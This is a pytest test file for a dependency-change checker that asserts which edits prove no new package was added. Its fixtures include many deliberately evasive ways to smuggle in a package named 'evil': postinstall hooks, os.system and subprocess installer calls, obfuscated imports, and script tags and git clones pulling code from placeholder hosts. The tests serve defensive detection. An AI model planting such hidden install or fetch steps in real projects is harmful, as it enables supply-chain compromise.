"""Packages that manifests declare are read from their text, and no new one can hide in any manifest."""

import sys
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import TypeAlias, cast

import pytest

from tests.proof.trial import Trial, quiet
from trued.model import DependenciesCheck, Grade
from trued.proof.dependencies.check import newly_declared
from trued.proof.dependencies.package_manifests import declared_in, is_package_manifest
from trued.proof.dependencies.undeclared_additions import unread_additions
from trued.proof.hashes import check_hash
from trued.proof.room.project_folders import import_roots
from trued.proof.seal import SealTerms, seal
from trued.protocols import Workspace

Heads: TypeAlias = dict[str, dict[str, str | None]]


def each(heads: Heads) -> pytest.MarkDecorator:
    """Run a test once for each of these heads."""
    return pytest.mark.parametrize("head", heads.values(), ids=heads)


@pytest.mark.spec("DAY-9")
@pytest.mark.parametrize(
    ("path", "text", "names"),
    [
        (
            "requirements.txt",
            "Flask>=2 # web\n-r other.txt\n\n# nothing\nevil @ https://x.example/e.whl\n",
            "flask evil evil@https://x.example/e.whl",
        ),
        ("requirements/dev.txt", "git+https://x.example/e.git\n", "git+https://x.example/e.git"),
        (
            "pyproject.toml",
            '[project]\nname="a"\nversion="1"\ndependencies=["Some_Thing>1"]\n[project.optional-dependencies]\nx=["y"]\n'
            '[dependency-groups]\ndev=["z"]\n[build-system]\nrequires=["hatchling"]\n'
            '[tool.poetry.dependencies]\npython="^3"\nq={version="1", optional=true}\n',
            "some-thing y z hatchling q",
        ),
        ("package.json", '{"name":"a","dependencies":{"@s/x":"1"},"devDependencies":{"jest":"2"}}', "@s/x jest"),
        (
            "setup.py",
            'from setuptools import setup\nsetup(name="a", install_requires=["b>1"], extras_require={"t":["c"]})',
            "b c",
        ),
        (
            "setup.cfg",
            "[metadata]\nname = a\n[options]\ninstall_requires =\n  b\n[options.extras_require]\nt = c\n",
            "b c",
        ),
        ("go.mod", "module a\n\nrequire (\n\tgithub.com/x/y v1.2.3\n)\n", "github.com/x/y"),
        ("Pipfile", "[packages]\na = '*'\n[docs]\nb = {version = '1'}\n[requires]\npython_version = '3.11'\n", "a b"),
        ("pyproject.toml", "[tool.poetry.dependencies]\na = [{version = '1', python = '<3.9'}]\n", "a"),
        (
            "pyproject.toml",
            "[tool.setuptools]\npackages = ['a', 'a.sub']\n[tool.hatch.build.targets.wheel]\npackages = ['src/a']\n"
            "[tool.setuptools.dynamic]\ndependencies = {file = ['needs.txt']}\n"
            "[tool.uv]\nconstraint-dependencies = ['b<2']\n",
            "file:needs.txt",
        ),
        (
            "package.json",
            '{"pnpm": {"peerDependencyRules": {"ignoreMissing": ["a"]}, "onlyBuiltDependencies": ["b"]}}',
            "",
        ),
        ("setup.cfg", "[options]\npython_requires = >=3.9\ninstall-requires =\n  b\ntests_require = c\n", "b c"),
        ("setup.py", "setup(python_requires='>=3.9', install_requires=['b'])\n", "b"),
        (
            "go.mod",
            'module a\nrequire "x.example/y" v1 // why\nrequire (\n\t`x.example/z` v1\n)\n',
            "x.example/y x.example/z",
        ),
        ("Cargo.toml", '[package]\nname="a"\n[dependencies]\nserde={version="1", features=["derive"]}\n', "serde"),
    ],
)
def test_every_declared_package_is_found(path: str, text: str, names: str) -> None:
    assert is_package_manifest(path)
    found = declared_in(path, text)
    assert {one.replace(" ", "") for one in found if not one.startswith("-r")} == {*names.split()}


@pytest.mark.spec("DAY-9", "LAW-2")
def test_a_manifest_that_cannot_be_read_hides_nothing() -> None:
    before, after = "{broken", '{broken\n "dependencies": {"evil": "1"}'
    assert declared_in("package.json", after) - declared_in("package.json", before)


def test_what_is_installed_or_locked_is_no_manifest() -> None:
    assert not any(map(is_package_manifest, ("node_modules/x/package.json", "uv.lock", "src/requirements.py")))


PROJECT = {
    "tiny.py": "import json\n\n\ndef one():\n    return json.loads('1')\n",
    "plugins.py": "import importlib\n\n\ndef load(name):\n    return importlib.import_module(name)\n",
    "starts.py": "import subprocess as sp\n\n\ndef branch():\n    return sp.run(['git', 'branch'])\n",
    "tools.js": "const fs = require('fs');\n",
    "requirements.txt": "flask==2.0\npyyaml\n-r more.list\n",
    "requirements/base.txt": "flask\n",
    "more.list": "flask\n",
    "setup.py": "from setuptools import setup\nNEEDS = ['flask']\n"
    "setup(name='a', version='1', install_requires=NEEDS)\n",
    "package.json": '{"dependencies": {"lodash": "4"}, "overrides": {"x": "1"}}',
    "tox.ini": "[testenv]\ndeps = flask\n",
    "page.html": "<p>one</p>\n",
    "Makefile": "# Perhaps, one day: leftpad\ncheck:\n\tpython -m pip install -e .\n\tpython tools/lint.py -q\n",
    "ci.yml": "steps:\n  - uses: actions/checkout@v4\n  - run: pip install flask\n    python: '3.11'\n",
    "tools/lint.py": "import json\n\nWORDS = json.load(open('data/words.json'))\n",
    "data/words.json": '{"a": "b"}\n',
    "noxfile.py": "def test(session):\n    session.install('-r', 'lists/words.txt')\n",
    "lists/words.txt": "flask\n",
}
SETUP, CODE, PACKAGES = PROJECT["setup.py"], PROJECT["tiny.py"], PROJECT["package.json"]
MAKE, CI = PROJECT["Makefile"], PROJECT["ci.yml"]
HONEST: Heads = {
    "code, tests and words": {
        "tiny.py": CODE.replace("'1'", "'2'"),
        "tests/test_more.py": "import unittest\n\nimport tiny\n",
        "README.md": "pip install flask, see https://x.example\n",
    },
    "what is declared is imported for the first time": {"tiny.py": f"import yaml\n{CODE}"},
    "beside an import of the base's that is computed": {"plugins.py": f"{PROJECT['plugins.py']}\n\nLOADED = []\n"},
    "another version, and one less": {"requirements.txt": "flask==2.1\n", "more.list": None},
    "another version of the project": {"setup.py": SETUP.replace("version='1'", "version='2'")},
    "a new target, which runs a new script": {
        "Makefile": f"{MAKE}\n# Look at the types\ntypes: check\n\tpython tools/types.py --strict\n",
        "tools/types.py": "import ast\n",
    },
    "another Python": {"ci.yml": CI.replace("3.11", "3.12").replace("v4\n", "v4\n  # twice a day\n")},
    "data that code reads": {"data/words.json": '{"a": "b", "evil": "evil 1.0"}\n', "data/more.csv": "evil,1\n"},
    "imports by their names": {
        "tiny.py": f"import importlib\n{CODE}\n\nYAML = importlib.import_module('yaml')\n",
        "tools.js": "const fs = require('fs');\n// we require 'evil'\nif (require.main === module) fs.go('require');\n",
    },
    "methods that are called alike": {"tiny.py": f"{CODE}\n\ndef two(model):\n    return model.eval(), ['exec']\n"},
    "what is called like a starter": {
        "tiny.py": f"import platform\nimport re\n{CODE}\n\nPLAIN = re.compile('x'), platform.system()\n"
    },
    "beside a program that the base starts": {"starts.py": f"{PROJECT['starts.py']}\n\nPIPED = sp.PIPE\n"},
    "a script for a program of a declared package": {
        "package.json": PACKAGES.replace(
            '"overrides"', '"scripts": {"x": "lodash ./tools.js"}, "imports": {"#x": "./tools.js"}, "overrides"'
        )
    },
    "what only git reads": {".gitignore": "evil\n"},
    "a new page of its own": {"page.html": "<script src='tools.js'></script>\n", "tools.js": "require('node:os');\n"},
}
REFUTED: Heads = {
    "a list that another one names": {"more.list": "flask\nevil\n"},
    "a list in a folder of lists": {"requirements/base.txt": "flask\nevil\n"},
    "a list under a name": {"setup.py": SETUP.replace("['flask']", "['flask', 'evil']")},
    "the same name, from elsewhere": {"requirements.txt": "flask @ https://x.example/evil.whl\npyyaml\n-r more.list\n"},
    "an alias": {"package.json": PACKAGES.replace('"4"', '"npm:evil@1"')},
    "an override": {"package.json": PACKAGES.replace('"x": "1"', '"x": "npm:evil@1"')},
}
UNREAD: Heads = {
    "a recipe that installs": {"Makefile": f"{MAKE}\tpython -m pip install evil\n"},
    "a target called like it": {"Makefile": f"{MAKE}\nevil:\n\tpython -m pip install evil\n"},
    "a file called like it": {"ci.yml": CI.replace("flask", "flask evil"), "evil": "\n", "x/evil.py": "a = 1\n"},
    "a folder called like it": {"Makefile": f"{MAKE}\tpython -m pip install tools data\n"},
    "a word in pieces": {"Makefile": MAKE + "\tpip install e''v\\il\n"},
    "somebody's action": {"ci.yml": CI.replace("actions/checkout", "evil/checkout")},
    "data with a list of packages": {"data/words.json": '{"a": "b", "dependencies": {"evil": "1"}}\n'},
    "data from elsewhere": {"data/words.json": '{"a": "b", "c": "https://x.example/evil.whl"}\n'},
    "data that a tool is pointed at": {
        "data/words.json": '{"a": "evil"}\n',
        "Makefile": f"{MAKE}\tpip install -r data/words.json\n",
    },
    "data that a driver installs": {"lists/words.txt": "flask\nevil\n"},
    "settings of a tool": {"tox.ini": "[testenv]\ndeps = flask\n  evil\n"},
    "an import, and no word of it": {"tiny.py": f"{CODE}\n\nif one(): import evil\n"},
    "an import by its name": {"tiny.py": f"{CODE}\n\n__import__('evil.sub')\n"},
    "an import by a name that is computed": {"tiny.py": f"{CODE}\n\n__import__('ev' + 'il')\n"},
    "an import under another name": {"tiny.py": f"from importlib import import_module as f\n{CODE}\n\nf('evil')\n"},
    "an import under a name of its own": {"tiny.py": f"{CODE}\n\nload = __import__\nload('evil')\n"},
    "an import of each": {"tiny.py": f"{CODE}\n\nALL = [*map(__import__, ['evil'])]\n"},
    "an import by an attribute": {"tiny.py": f"{CODE}\n\nload = getattr(__builtins__, '__imp' + 'ort__')\n"},
    "a module that runs others": {"tiny.py": f"import runpy\n{CODE}\n\nrunpy.run_module('evil')\n"},
    "a module of importers": {"tiny.py": f"import importlib as i\n{CODE}\n\nload = i.import_module\n"},
    "an importer passed on": {"plugins.py": f"{PROJECT['plugins.py']}\n\nLOADED = vars(importlib)\n"},
    "a computed one beside the base's": {
        "plugins.py": f"{PROJECT['plugins.py']}\n\ndef more(name):\n    return [importlib.import_module(name)]\n"
    },
    "a script's function under another name": {
        "tools.js": "const fs = require('fs');\nconst x = require;\nx('evil');\n"
    },
    "a script's computed name": {"tools.js": "const fs = require('fs');\nrequire('ev' + 'il');\n"},
    "a word that only a comment had": {"Makefile": f"{MAKE}\tpython -m pip install leftpad\n"},
    "an import in a string": {"tiny.py": f"{CODE}\n\nexec('import evil')\n"},
    "a script's import": {"tools.js": "const fs = require('fs');\nconst x = await import('evil/sub');\n"},
    "an address": {"page.html": "<script src='//cdn.example/evil.js'></script>\n"},
    "another language": {"composer.json": '{"require": {"a/evil": "1"}}\n'},
    "a program": {"tiny.py": f"import subprocess\n{CODE}\n\nsubprocess.run(['jq', '-n', '1'])\n"},
    "an installer": {"tiny.py": f"import os\n{CODE}\n\nos.system('pip install evil')\n"},
    "an installer under another name": {
        "tiny.py": f"from os import popen as p\n{CODE}\n\np('p' + 'ip install evil')\n"
    },
    "a program beside the base's": {"starts.py": f"{PROJECT['starts.py']}\n\nsp.run(['pip', 'install', 'evil'])\n"},
    "a name for it in the manifest": {
        "package.json": PACKAGES.replace('"overrides"', '"imports": {"#x": {"node": "evil/sub"}}, "overrides"')
    },
    "a library of the system": {"tiny.py": f"import ctypes\n{CODE}\n\nctypes.CDLL('libevil.so')\n"},
    "code in a text": {"tiny.py": f"import timeit\n{CODE}\n\ntimeit.timeit('import evil')\n"},
    "a script's own manifest": {"tiny.py": f"# /// script\n# dependencies = ['evil']\n# ///\n{CODE}"},
    "a script's program": {"tools.js": "const fs = require('fs');\nrequire('child_process').execSync('npm i evil');\n"},
    "a built-in module by its name": {"tools.js": "const m = process.getBuiltinModule('module');\n"},
    "what npm runs after an installation": {
        "package.json": PACKAGES.replace('"overrides"', '"scripts": {"postinstall": "npm i evil"}, "overrides"')
    },
    "a computed list": {"setup.py": SETUP.replace("['flask']", "[*map(chr, (101,))]")},
}


async def graded(place: Path, heads: Heads, **check: bool) -> dict[str, Grade]:
    asked = [{"id": "deps", "text": "No new dependencies", "keep": True, "checks": [{"kind": "dependencies", **check}]}]
    trial = Trial(place, PROJECT, asked)
    await trial.workspace.begin()
    terms = SealTerms(held_out=True, guards=(check_hash(DependenciesCheck(**check)),))
    contract = await seal(trial.workspace, trial.asked, terms, tell=quiet)
    judged = await trial.judged(contract, *heads.values())
    return {name: one.grade for name, one in zip(heads, judged, strict=True)}


@pytest.mark.slow
@pytest.mark.spec("DAY-9", "LAW-11")
async def test_no_new_dependency_is_proven_only_where_every_change_was_read(tmp_path: Path) -> None:
    """Manifests are not enough: a change that may add a package in another way is left to a person."""
    found = await graded(tmp_path, {**HONEST, **REFUTED, **UNREAD})
    expected = dict.fromkeys(HONEST, Grade.PROVEN) | dict.fromkeys(REFUTED, Grade.REFUTED)
    assert found == expected | dict.fromkeys(UNREAD, Grade.TESTED)


@pytest.mark.slow
@pytest.mark.spec("DAY-9")
async def test_dependencies_that_must_stay_unchanged_are_compared_with_their_versions(tmp_path: Path) -> None:
    changed = ("another version, and one less", "a list in a folder of lists")
    found = await graded(tmp_path, {**HONEST, **REFUTED}, unchanged=True)
    assert [found[name] for name in changed] == [Grade.REFUTED, Grade.REFUTED]
    assert found["another version of the project"] is found["code, tests and words"] is Grade.PROVEN
    assert found["another Python"] is Grade.TESTED  # a number may be a version


OF_DATA = {
    "json": ('{"a": "evil 1.0"}\n', '{"dependencies": {"evil": "1"}}\n'),
    "toml": ("a = 'evil 1.0'\n", "[dependencies]\nevil = '1'\n"),
    "yaml": ("a: evil 1.0\n", "dependencies:\n  evil: '1'\n"),
}


@pytest.mark.spec("DAY-9")
@pytest.mark.parametrize("was", [None, "", "\n"], ids=["new", "empty", "blank"])
@pytest.mark.parametrize("sort", OF_DATA)
async def test_data_that_only_code_reads_is_no_list_of_packages_in_any_format(sort: str, was: str | None) -> None:
    path, (plain, listing) = f"data/more.{sort}", OF_DATA[sort]
    before = {"tiny.py": f"WORDS = open('data/more.{sort}').read()\n"} | ({} if was is None else {path: was})
    assert await read({path: plain}, before) == "proven"
    assert await read({path: listing}, before) == f"unread {path}"
    assert await read({path: f"{plain}{{"}, before) == f"unread {path}"


@pytest.mark.spec("DAY-9")
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("pyproject.toml", "[project]\nname = 'a'\nversion = '1'\ndependencies = ['evil']\n"),
        ("Cargo.toml", "[package]\nname = 'a'\n[dependencies]\nevil = '1'\n"),
        ("Pipfile", "[packages]\nevil = '*'\n"),
    ],
)
async def test_a_new_manifest_declares_its_packages(path: str, text: str) -> None:
    assert await read({path: text}, {"tiny.py": "a = 1\n"}) == "declares evil"


def test_the_hash_of_an_older_check_stays_valid() -> None:
    assert DependenciesCheck().model_dump(mode="json") == {"kind": "dependencies"}


class Commits:
    """A base and a head, in memory."""

    def __init__(self, base: Mapping[str, str], head: Mapping[str, str], links: frozenset[str] = frozenset()) -> None:
        self.texts, self.links = {"base": base, "head": head}, links

    async def blobs(self, commit: str) -> dict[str, str]:
        return dict(self.texts[commit])

    async def submodules(self, commit: str) -> dict[str, str]:
        return {}

    async def symbolic_links(self, commit: str) -> frozenset[str]:
        return self.links

    async def read_all(self, commit: str, paths: Iterable[str]) -> dict[str, bytes]:
        return {
            path: self.texts[commit][path].encode(errors="surrogateescape")
            for path in paths
            if path in self.texts[commit]
        }

    async def read(self, commit: str, path: str) -> bytes | None:
        return (await self.read_all(commit, [path])).get(path)


async def read(head: Mapping[str, str | None], base: Mapping[str, str], *links: str) -> str:
    """`proven`, or what lowers it: `declares …` or `unread …`."""
    whole = {path: text for path, text in {**base, **head}.items() if text is not None}
    commits = cast(Workspace, Commits(base, whole, frozenset(links)))
    changed = [path for path in {**base, **whole} if base.get(path) != whole.get(path)]
    if new := await newly_declared(commits, "base", "head"):
        return f"declares {', '.join(sorted(new))}"
    places = (), sys.stdlib_module_names
    left = await unread_additions(commits, "base", "head", changed, places, projects=import_roots(base))
    return f"unread {', '.join(left)}" if left else "proven"


BASE = {
    "app.py": "import os\n",
    "kit/__init__.py": "",
    "kit/cli.py": "import importlib\nimport subprocess\n\n\ndef main():\n    subprocess.run(['git', 'status'])\n"
    "    subprocess.run(['pip', 'install', '-e', '.'])\n",
    "docs.py": 'import os\n"""\nimport evil\n"""\n',
    "tests/test_app.py": "import app\n",
    "pyproject.toml": "[project]\nname = 'a'\nversion = '1'\ndependencies = ['attrs']\n"
    "[tool.setuptools]\npackages = ['kit']\n[tool.poe.tasks]\nlint = 'python tools/lint.py'\n",
    "package.json": '{"name": "a", "version": "1", "scripts": {"test": "node --test"}, "dependencies": {"pad": "1"}}',
    "setup.py": "from setuptools import setup\n\nsetup(name='a', install_requires=['attrs'])\n",
    "setup.cfg": "[metadata]\nname = a\n[options]\npackages = kit\n",
    "requirements.txt": "attrs\n",
    "Pipfile": "[packages]\nattrs = '*'\n",
    "go.mod": "module a\n\ngo 1.22\n",
    "index.js": "export const a = 1;\n",
    "page.html": "<p>\n",
    "tools/lint.py": "import ast\n",
    "main.rs": "fn main() { std::process::exit(1); }\n",
    "Makefile": "all:\n\tpip install -r ./requirements.txt\n",
    "README.md": "attrs\n",
}
MANIFEST, SCRIPT = BASE["pyproject.toml"], BASE["package.json"]
READ_WHOLE: Heads = {
    "own sub-packages": {
        "pyproject.toml": MANIFEST.replace("['kit']", "['kit', 'kit.sub']"),
        "setup.cfg": BASE["setup.cfg"].replace("kit", "\n  kit\n  kit.sub"),
        "kit/sub/__init__.py": "",
    },
    "own packages of another build tool": {
        "pyproject.toml": f"{MANIFEST}[tool.hatch.build.targets.wheel]\npackages = ['src/more']\n",
        "src/more/__init__.py": "",
    },
    "dependencies in a list that was there": {
        "pyproject.toml": MANIFEST.replace("dependencies = ['attrs']", "dynamic = ['dependencies']")
        + "[tool.setuptools.dynamic]\ndependencies = {file = ['requirements.txt']}\n"
    },
    "a list in two parts": {"requirements.txt": "-r requirements/base.txt\n-e .\n", "requirements/base.txt": "attrs\n"},
    "another version and other words about the project": {
        "pyproject.toml": MANIFEST.replace("'1'", "'2'\ndescription = 'evil things'\nrequires-python = '>=3.9'"),
        "package.json": SCRIPT.replace('"1", "scripts"', '"2", "description": "evil things", "scripts"'),
        "setup.py": BASE["setup.py"].replace("name='a'", "name='a', version='2', python_requires='>=3.9'"),
        "setup.cfg": BASE["setup.cfg"].replace("= a", "= a\nversion = 2"),
    },
    "an extra of known packages": {
        "setup.py": BASE["setup.py"].replace("['attrs']", "['attrs'], extras_require={'all': ['attrs']}")
    },
    "scripts that start own code": {
        "pyproject.toml": f"{MANIFEST}[project.scripts]\nkit = 'kit.cli:main'\n",
        "package.json": SCRIPT.replace('--test"', '--test", "lint": "node tools/lint.js && npm run test"'),
        "tools/lint.js": "1;\n",
    },
    "settings of a tool that loads nothing": {"pyproject.toml": f"{MANIFEST}[tool.ruff.lint]\nselect = ['E501']\n"},
    "a helper of tests": {"tests/helpers.py": "", "tests/test_more.py": "import helpers\n"},
    "a new package": {"app.py": "import more\n", "more/__init__.py": ""},
    "an attribute called like a module": {
        "app.py": "import os\n\n\ndef f(error):\n    return error.code, os.error.code\n"
    },
    "a picture": {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:a='http://a.example/b'/>\n"},
    "own scripts in a page": {"page.html": "<p>\n<script type='module'>import a from './index.js';</script>\n"},
    "own style sheets": {
        "web/a.scss": "@charset 'utf-8';\n@import 'b.css';\n@use 'c';\n@use 'sass:math';\n@use './d';\n@use 'pad/x';\n"
        "@use 'parts';\n@use 'indented';\n"
        "/* @import 'evil'; */ @media (width > 1px) { a::after { content: 'evil' } }\n",
        "web/b.css": "a { color: red }\n",
        "web/_c.scss": "$x: 1;\n",
        "web/d.css": "",
        "web/parts/_index.scss": "",
        "web/_indented.sass": "",
    },
    "another document": {"README.md": "evil\n", "Makefile": "all:\n\tpip install -r requirements.txt\n"},
    "an unused import removed": {"kit/cli.py": BASE["kit/cli.py"].replace("import importlib\n", "")},
    "a program that the base starts": {"app.py": "import subprocess as sp\n\nsp.run(['git', 'log', '-n', '1'])\n"},
    "a script's program that the base starts": {
        "index.js": "import { execFileSync, execSync } from 'node:child_process';\n"
        "execFileSync('git', ['log', name], {});\nexecSync('git status', {encoding: 'utf8'});\n"
    },
    "its own file": {"app.py": "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, 'tools/lint.py'])\n"},
    "modules by their names": {
        "app.py": "import importlib\nimport importlib.metadata as data\nimport os\nimport sys\n"
        "from importlib.resources import files\n\nfrom kit import Kind\n\nJSON = importlib.import_module('json')\n"
        "V = data.version('a')\nT = files('kit') / 'x.txt', files(__package__)\nHAS = 'attrs' in sys.modules\n"
        "ME = sys.modules[__name__], os.__file__, getattr(os, 'sep'), getattr(Kind, V.upper())\n\n\n"
        "class A:\n    def go(self, x):\n        return getattr(self, f'do_{x}')(), self.__dict__\n"
    },
    "a name of its own": {"app.py": "entry_points = [1]\nx = list(entry_points)\n"},
    "a module with another attribute, in a test": {
        "tests/test_app.py": "import subprocess\n\n\ndef test_a(patch):\n    patch.setattr(subprocess, 'run', print)\n"
    },
    "a script": {
        "index.js": "// see https://x.example/a\nconst found = /a/.exec('b');\n"
        "const svg = 'http://www.w3.org/2000/svg';\nconst rules = {require: 1, eval: 2};\n"
    },
    "compiled code": {"main.rs": 'fn main() { let c = clap::Command::new("a"); }\n'},
    "a snapshot of a test": {
        "__snapshots__/index.test.js.snap": "exports[`a 1`] = `<a href='https://a.example/x'>evil things</a>`;\n"
    },
    "texts about the project": {"CHANGES.txt": "evil\n", "NEWS": "evil\n", "docs/README.txt": "evil\n"},
    "a font and a sound": {"web/a.woff2": "evil\n", "web/b.mp3": "evil\n"},
    "data of tests": {
        "tests/data/orders.json": '{"order": "evil"}\n',
        "tests/test_orders.py": "from pathlib import Path\n\nORDERS = Path(__file__).parent / 'data' / 'orders.json'\n",
        "internal/testdata/in.txt": "evil things\n",
    },
    "a mark of tests": {"pyproject.toml": f"{MANIFEST}[tool.pytest.ini_options]\nmarkers = ['slow: takes long']\n"},
}
INSTALL = "pip install evil"
LEFT_UNREAD: Heads = {
    "a module among tests, called like a package": {"app.py": "import evil\n", "tests/evil.py": ""},
    "a module beside a test": {"app.py": "import evil\n", "lib/test_x.py": "", "lib/evil.py": ""},
    "product beside a test": {"lib/app.py": "import evil\n", "lib/test_x.py": "", "lib/evil.py": ""},
    "a folder that is no package": {"app.py": "import evil\n", "evil/x.py": ""},
    "quotation marks removed": {"docs.py": "import os\nimport evil\n"},
    "a list that grows": {
        "setup.py": "from setuptools import setup\nR = ['attrs']\nR += ['evil']\nsetup(install_requires=R)\n"
    },
    "a list that is appended to": {
        "setup.py": "from setuptools import setup\nR = ['attrs']\nR.append('evil')\nsetup(install_requires=R)\n"
    },
    "a setup that installs": {"setup.py": f"import os\nos.system('{INSTALL}')\n{BASE['setup.py']}"},
    "a setup that fetches": {"setup.py": f"{BASE['setup.py']}\nsetup.dist.fetch_build_eggs(['evil'])\n"},
    "a tool in go.mod": {"go.mod": f"{BASE['go.mod']}\ntool x.example/evil/cmd\n"},
    "a script that installs": {"package.json": SCRIPT.replace('--test"', '--test", "postinstall": "npx -y evil"')},
    "a name for a package": {"package.json": SCRIPT.replace('"scripts"', '"imports": {"#a": "evil"}, "scripts"')},
    "a task that installs": {"pyproject.toml": MANIFEST.replace("tools/lint.py", "-m pip install evil")},
    "a task of several lines": {"pyproject.toml": f'{MANIFEST}setup = """\n# set up\n{INSTALL}\n"""\n'},
    "dependencies of another tool": {"pyproject.toml": f"{MANIFEST}[tool.tox.env_run_base]\ndeps = ['evil']\n"},
    "a table of another tool": {"pyproject.toml": f"{MANIFEST}[tool.more.deps]\nevil = '*'\n"},
    "a hook without settings": {"pyproject.toml": f"{MANIFEST}[tool.hatch.metadata.hooks.custom]\n"},
    "a script of another package": {"pyproject.toml": f"{MANIFEST}[project.scripts]\nx = 'evil.cli:main'\n"},
    "an extra": {"requirements.txt": "attrs[evil]\n"},
    "an extra in a table": {"Pipfile": "[packages]\nattrs = {version = '*', extras = ['evil']}\n"},
    "an address in another spelling": {"page.html": "<script src='https:&#47;&#47;cdn.example/x.js'></script>\n"},
    "an address with backslashes": {"page.html": "<script src='\\\\cdn.example\\x.js'></script>\n"},
    "an address on two lines": {"page.html": "<script src='/\n/cdn.example/x.js'></script>\n"},
    "a script element": {"index.js": "document.head.append(Object.assign(x, {src: 'https://cdn.example/x.js'}));\n"},
    "a shell that installs": {"app.py": f"import os\n\nos.system('{INSTALL}')\n"},
    "an installer": {"app.py": "import subprocess, sys\n\nsubprocess.run([sys.executable, '-m', 'pip', 'evil'])\n"},
    "a known program that installs": {"app.py": "from subprocess import run as f\n\nf(['pip', 'install', 'evil'])\n"},
    "a program that is computed": {"app.py": "import subprocess\n\nsubprocess.run([*map(chr, (101,))])\n"},
    "a program in place of this one": {"app.py": "import os\n\nos.execvp('pip', ['pip', 'install', 'evil'])\n"},
    "a name that comes with all others": {"app.py": f"from kit import *\n\nos.system('{INSTALL}')\n"},
    "arguments that a script computes": {
        "index.js": "import {execFileSync} from 'child_process';\nexecFileSync('pip', words);\n"
    },
    "a program passed on": {"app.py": "import subprocess\n\ngo = subprocess.run\n"},
    "a program of the event loop": {"app.py": f"import asyncio\n\nx = asyncio.create_subprocess_shell('{INSTALL}')\n"},
    "another module's os": {"app.py": f"import shutil\n\nshutil.os.system('{INSTALL}')\n"},
    "an attribute that starts programs": {"app.py": f"import os\n\ngetattr(os, 'system')('{INSTALL}')\n"},
    "git from elsewhere": {
        "app.py": "import subprocess\n\nsubprocess.run(['git', 'clone', 'https://x.example/evil'])\n"
    },
    "a script's program": {"index.js": "import {execSync} from 'node:child_process';\nexecSync('npm i evil');\n"},
    "a script's program by another name": {
        "index.js": "import * as cp from 'child_process';\ncp['exec' + 'Sync']('x');\n"
    },
    "compiled code that installs": {
        "main.rs": 'fn main() { std::process::Command::new("cargo").arg("x").status(); }\n'
    },
    "compiled code by another name": {"main.go": 'import x "os/exec"\n\nfunc main() { x.Command("pip").Run() }\n'},
    "a document as a list": {"README.md": "evil\n", "Makefile": "all:\n\tpip install -r ./README.md\n"},
    "a picture that loads": {"logo.svg": "<svg><script href='https://cdn.example/evil.js'/></svg>\n"},
    "a style sheet's package": {"a.css": "@import 'evil/x.css';\n"},
    "a style sheet's plugin": {"a.css": '@plugin "@evil/x";\n'},
    "a style in a page": {"page.html": "<p>\n<style>@import url('evil');</style>\n"},
    "a script in a page": {"page.html": "<p>\n<script type='module'>import x from 'evil';</script>\n"},
    "a place of a package": {"index.js": "export const a = require.resolve('evil');\n"},
    "types of a package": {"index.ts": "/// <reference types='evil' />\n"},
    "a console": {"app.py": "import pdb\n\npdb.code.InteractiveInterpreter().runsource('import evil')\n"},
    "a module by another name": {"app.py": "import importlib as i\n\ngetattr(i, 'import_' + 'module')('ev' + 'il')\n"},
    "every module": {"app.py": "import sys\n\ngetattr(sys.modules['import' + 'lib'], 'x' + '')('evil')\n"},
    "built-ins by another name": {"app.py": "import builtins as b\n\nb.exec('import evil')\n"},
    "another module's importlib": {
        "app.py": "import logging.config\n\nx = getattr(logging.config.importlib, 'a' + 'b')\n"
    },
    "another module passed on": {"app.py": "import logging.config\n\nx = vars(logging.config)['import' + 'lib']\n"},
    "an entry point": {
        "app.py": "from importlib.metadata import EntryPoint\n\nx = EntryPoint('x', 'evil', 'g').load()\n"
    },
    "files of a package": {"app.py": "from importlib.resources import files\n\nx = files('evil')\n"},
    "a finder": {"app.py": "import sys\n\nx = sys.meta_path[-1].find_spec('evil', None).loader\n"},
    "a type as text": {"app.py": "def f(x: '__imp' \"ort__('evil')\"): ...\n"},
    "a namespace": {"app.py": "x = globals()['__buil' + 'tins__']\n"},
    "a function's namespace": {"app.py": "import os\n\nx = os.walk.__globals__\n"},
    "a loader that another module imports": {"app.py": "from kit import import_module\n\nimport_module('ev' + 'il')\n"},
    "a loader applied": {"app.py": "from kit import apply\n\napply(__import__, 'evil')\n"},
    "a comment before the name": {"index.js": "import pad from /**/ 'evil';\n"},
    "a script's loader passed on": {"index.js": "const load = module.require; load('ev' + 'il');\n"},
    "a script's loader by its name": {"index.js": "module['require']('evil');\n"},
    "a script's text": {"index.js": "(0, eval)('x');\n"},
    "a script's function": {"index.js": "Function('return 1')();\n"},
    "a package with the sign of a short name": {"index.js": "import a from '@evil/hooks';\n"},
    "a snapshot that loads": {"__snapshots__/index.test.js.snap": "exports[`a 1`] = require('evil');\n"},
    "a text about the project as a list": {"NEWS": "evil\n", "Makefile": "all:\n\tpip install -r ./NEWS\n"},
    "data of tests as a list": {
        "tests/data/list.txt": "evil\n",
        "Makefile": "all:\n\tpip install -r tests/data/list.txt\n",
    },
    "data of tests, with a driver that runs a test's code": {
        "tests/data/list.txt": "evil\n",
        "tests/helper.py": "def go(session):\n    session.install('-r', 'tests/data/list.txt')\n",
        "noxfile.py": "from tests.helper import go\n",
    },
    "data of tests with a list of packages": {"tests/data/a.json": '{"dependencies": {"evil": "1"}}\n'},
}
DECLARED: Heads = {
    "a table of a Pipfile": {"Pipfile": f"{BASE['Pipfile']}[docs]\nevil = '*'\n"},
    "a Pipfile": {"Pipfile": f"{BASE['Pipfile']}evil = '*'\n"},
    "a list that the manifest names": {
        "pyproject.toml": f"{MANIFEST}[tool.setuptools.dynamic]\ndependencies = {{file = 'words'}}\n",
        "words": "evil\n",
    },
    "a list that a list names": {"requirements.txt": "attrs\n-r words\n", "words": "evil\n"},
    "a list that is missing": {"requirements.txt": "attrs\n-r ../evil.txt\n"},
}


@pytest.mark.spec("DAY-9", "LAW-11")
@each(READ_WHOLE)
async def test_an_honest_change_is_read_whole(head: dict[str, str | None]) -> None:
    assert await read(head, BASE) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@each(LEFT_UNREAD)
async def test_what_may_bring_a_package_is_unread_and_refutes_nothing(head: dict[str, str | None]) -> None:
    assert (await read(head, BASE)).startswith("unread ")


@pytest.mark.spec("DAY-9", "LAW-11")
@each(DECLARED)
async def test_a_package_is_found_wherever_manifests_declare_it(head: dict[str, str | None]) -> None:
    assert (await read(head, BASE)).startswith("declares ")


STEPS = """steps:
  - uses: actions/checkout@v3
  - uses: actions/setup-python@v5.1
    image: python:3.11
  - run: npx tool@1.2.3 && pip install kit==1
"""


